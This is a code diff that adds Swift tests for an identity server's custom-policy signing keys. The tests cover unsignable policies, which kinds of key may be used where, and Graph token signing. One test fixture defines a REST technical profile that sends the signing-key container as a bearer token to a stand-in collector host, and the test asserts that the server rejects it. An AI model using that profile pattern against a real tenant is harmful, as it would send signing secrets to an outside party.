@@ -102,7 +102,12 @@ struct CustomPolicySigningTests {
             let page = try await driver.start(attempt, harness: h)
             let done = try await driver.submit(page, [("signInName", "carol@example.com"), ("password", "Passw0rd!")])
             let code = try #require(done.redirectParameters["code"])
+            #expect(try await h.server.unsignablePolicies(tenantID: h.tenant.id).isEmpty)
             #expect(try await h.server.administration.deletePolicyKeySet(tenantID: h.tenant.id, id: PolicyFixtures.signingKeySet))
+            // What `serve` warns about at start: each relying party that cannot sign, and why.
+            let unsignable = try await h.server.unsignablePolicies(tenantID: h.tenant.id)
+            #expect(unsignable.map(\.policy).sorted() == ["B2C_1A_test_reset", "B2C_1A_test_susi"], "\(unsignable)")
+            #expect(unsignable.allSatisfy { $0.reason.contains("B2C_1A_TokenSigningKeyContainer") })
 
             let redeemed = try await driver.redeem(h, attempt: attempt, code: code)
             #expect(redeemed.status != .ok && redeemed.status != .internalServerError, "\(redeemed.status)")
@@ -134,6 +139,64 @@ struct CustomPolicySigningTests {
         #expect(includedProblems.isEmpty, "\(includedProblems)")
     }
 
+    @Test("a profile that sends a secret out cannot name an RSA key set, nor take one at run time; a JWT issuer cannot sign with a secret")
+    func keyKinds() async throws {
+        try await IdentityHarness.run(.sqlite) { h, _ in
+            let administration = h.server.administration
+            try await PolicyFixtures.makeKeys(administration, tenantID: h.tenant.id, secrets: ["B2C_1A_Secret": "s3cret-value"])
+            let library = h.server.service.policyKeySets
+            #expect(try await library.activeSecret(tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet) == nil, "never the private key")
+            #expect(try await library.activeSecret(tenantID: h.tenant.id, keySet: "B2C_1A_Secret") == "s3cret-value")
+            // An RSA key in a secret's set is not its active secret, nor a secret in a signing set its signing key.
+            _ = try await library.generateKey(tenantID: h.tenant.id, keySet: "B2C_1A_Secret", use: "sig", kty: "RSA", notBefore: nil, expires: nil)
+            #expect(try await library.activeSecret(tenantID: h.tenant.id, keySet: "B2C_1A_Secret") == "s3cret-value")
+
+            let leaking = PolicyFixtures.base(claimsProviderExtra: """
+                <TechnicalProfile Id="REST-Leak">
+                  <Protocol Name="Proprietary" Handler="Web.TPEngine.Providers.RestfulProvider, Web.TPEngine" />
+                  <Metadata><Item Key="ServiceUrl">https://collector.example/leak</Item><Item Key="AuthenticationType">Bearer</Item></Metadata>
+                  <CryptographicKeys><Key Id="BearerAuthenticationToken" StorageReferenceId="B2C_1A_TokenSigningKeyContainer" /></CryptographicKeys>
+                </TechnicalProfile>
+                """)
+            let secretSigner = PolicyFixtures.base().replacingOccurrences(
+                of: #"<Key Id="issuer_secret" StorageReferenceId="B2C_1A_TokenSigningKeyContainer" />"#,
+                with: #"<Key Id="issuer_secret" StorageReferenceId="B2C_1A_Unsigned" />"#)
+            _ = try await administration.createPolicyKeySet(tenantID: h.tenant.id, id: "B2C_1A_Unsigned")
+            _ = try await administration.uploadPolicySecret(tenantID: h.tenant.id, keySet: "B2C_1A_Unsigned", use: "sig", value: "not-a-signing-key")
+            for (policy, expected) in [
+                (leaking, "'B2C_1A_TokenSigningKeyContainer' (key 'BearerAuthenticationToken'), which does not exist in this tenant or holds no secret"),
+                (secretSigner, "'B2C_1A_Unsigned' (key 'issuer_secret'), which does not exist in this tenant or holds no RSA signing key"),
+            ] {
+                do {
+                    try await administration.uploadCustomPolicies([Data(policy.utf8)], tenant: h.tenant)
+                    Issue.record("uploaded: \(expected)")
+                } catch let rejection as PolicyRejection {
+                    #expect(rejection.problems.contains { $0.contains(expected) }, "\(rejection.problems)")
+                }
+            }
+            #expect(try await administration.customPolicies(tenantID: h.tenant.id).isEmpty)
+            let signing = try await library.signingKey(tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet).kid
+            _ = try await administration.uploadPolicySecret(tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet, use: "sig", value: "later")
+            #expect(try await library.signingKey(tenantID: h.tenant.id, keySet: PolicyFixtures.signingKeySet).kid == signing)
+        }
+    }
+
+    @Test("a custom policy's token for Microsoft Graph is signed with the key Graph verifies, not the policy's")
+    func graphTokens() async throws {
+        try await IdentityHarness.run(.sqlite) { h, _ in
+            let key = try await PolicyFixtures.makeKeys(h.server.administration, tenantID: h.tenant.id)
+            try await CustomPolicyRunTests.upload(h)
+            let program = try #require(try await h.server.service.customPolicies.program(tenantID: h.tenant.id, id: Self.policy))
+            let flow = UserFlow(customPolicy: program, tenantID: h.tenant.id)
+            let issuer = h.server.service.issuer
+            let graph = TokenResource(audience: APIPermission.graphResource, scopeNames: ["User.Read"])
+            let api = TokenResource(audience: h.clientID, scopeNames: [])
+            let ring = try await h.server.keys.activeKey()
+            #expect(try await issuer.signingKey(for: graph, flow: flow, tenantID: h.tenant.id).kid == ring.kid)
+            #expect(try await issuer.signingKey(for: api, flow: flow, tenantID: h.tenant.id).kid == key.kid)
+        }
+    }
+
     @Test("the active key: of the valid keys the one activated last; an undated key only when no dated key is valid")
     func activeKeyRule() {
         let now = Date(timeIntervalSince1970: 1_800_000_000)
@@ -151,5 +214,7 @@ struct CustomPolicySigningTests {
         #expect(active([key("future", nbf: 60, created: -5), key("undated", nbf: nil, created: -100)]) == "undated")
         #expect(active([key("expired", nbf: -100, exp: -1, created: -5), key("undated", nbf: nil, created: -100)]) == "undated")
         #expect(active([key("expired", nbf: -100, exp: -1, created: -5)]) == nil)
+        // The same activation date: the one made later.
+        #expect(active([key("first", nbf: -10, created: -100), key("second", nbf: -10, created: -50)]) == "second")
     }
 }
